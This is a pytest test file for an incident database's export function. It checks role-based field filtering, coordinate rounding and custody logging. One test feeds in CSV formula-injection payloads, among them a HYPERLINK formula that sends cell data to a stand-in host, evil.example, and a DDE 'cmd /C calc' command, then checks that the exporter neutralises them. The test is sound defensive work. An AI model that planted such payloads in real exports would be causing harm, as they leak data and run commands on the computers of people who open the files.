"""Exports go through the access policy: fields, records and coordinate precision per reader."""

from __future__ import annotations

import csv
import io
import json

import pytest

from prevention_lens.errors import ValidationError
from prevention_lens.incidents.drafts import draft_from_mapping
from prevention_lens.incidents.exports import export_incidents
from prevention_lens.incidents.records import IncidentFilter, create_incident
from prevention_lens.store import Store
from prevention_lens.store.access import ANONYMOUS, LOCAL_OPERATOR, Principal, Role
from prevention_lens.store.models import CustodyEntry

MARKER = "SECRET-SOURCE-91ab"
ANA = Principal("ana", Role.ANALYST, 3)


@pytest.fixture
def filled(sqlite_store: Store) -> Store:
    with sqlite_store.session() as session:
        for title, level, country in (
            ("Public one", "public", "MMR"),
            (f"Hidden {MARKER}", "restricted", "MMR"),
            ("Public two", "public", "CAF"),
        ):
            draft = draft_from_mapping(
                {
                    "category": "one_sided_violence",
                    "date_start": "2023-05-01",
                    "country": country,
                    "title": title,
                    "latitude": "19.765432",
                    "longitude": "96.123456",
                    "source_identity": MARKER,
                    "witness_contact": MARKER,
                    "target_groups": "religion: Christian",
                    "confidentiality": level,
                }
            )
            create_incident(session, LOCAL_OPERATOR, draft)
    return sqlite_store


def test_public_csv_has_allowed_fields_and_rounded_coordinates(filled: Store) -> None:
    with filled.session() as session:
        export = export_incidents(session, ANONYMOUS, "csv")
    assert MARKER not in export.content and "19.765432" not in export.content
    rows = list(csv.DictReader(io.StringIO(export.content)))
    assert [row["title"] for row in rows] == ["Public two", "Public one"]
    assert rows[1]["latitude"] == "19.77" and rows[0]["coordinates"] == "rounded to 2 decimals"
    assert "source_identity" not in rows[0] and "created_by" not in rows[0]
    assert rows[0]["target_groups"] == "religion: Christian"


def test_analysts_get_exact_places_but_not_confidential_fields(filled: Store) -> None:
    with filled.session() as session:
        export = export_incidents(session, ANA, "geojson", IncidentFilter(country="MMR"))
    collection = json.loads(export.content)
    assert export.media_type == "application/geo+json" and export.count == 2
    point = collection["features"][0]["geometry"]["coordinates"]
    assert point == [96.123456, 19.765432]
    assert "source_identity" not in collection["features"][0]["properties"]
    assert MARKER in export.content  # the restricted record's title: analysts may read it
    assert "witness_contact" not in export.content


def test_each_signed_in_export_is_a_custody_entry_naming_its_records(filled: Store) -> None:
    with filled.session() as session:
        export = export_incidents(session, ANA, "json")
        assert [row["id"] for row in json.loads(export.content)] == [3, 2, 1]
        entry = session.query(CustodyEntry).order_by(CustodyEntry.seq.desc()).first()
        assert entry is not None and entry.action == "export" and entry.actor == "ana"
        assert entry.detail == {
            "format": "json",
            "count": 3,
            "incident_ids": [3, 2, 1],
            "as": "ana",
        }
        # Anonymous exports hold published records only and leave the chain alone.
        before = session.query(CustodyEntry).count()
        assert export_incidents(session, ANONYMOUS, "json").count == 2
        assert session.query(CustodyEntry).count() == before


def test_unknown_format_is_named(filled: Store) -> None:
    with filled.session() as session, pytest.raises(ValidationError, match="'xlsx'"):
        export_incidents(session, ANONYMOUS, "xlsx")


def test_csv_cells_that_start_a_formula_are_quoted(sqlite_store: Store) -> None:
    with sqlite_store.session() as session:
        draft = draft_from_mapping(
            {
                "category": "one_sided_violence",
                "date_start": "2023-05-01",
                "country": "MMR",
                "title": '=HYPERLINK("https://evil.example/?"&A1,"Details")',
                "narrative": "@SUM(1+1)*cmd|' /C calc'!A0",
                "place_name": "-2+3",
                "latitude": "-19.5",
                "longitude": "96.1",
            }
        )
        create_incident(session, LOCAL_OPERATOR, draft)
        export = export_incidents(session, LOCAL_OPERATOR, "csv")
    (row,) = csv.DictReader(io.StringIO(export.content))
    assert row["title"] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"Details")'
    assert row["narrative"].startswith("'@SUM") and row["place_name"] == "'-2+3"
    assert row["latitude"] == "-19.5"
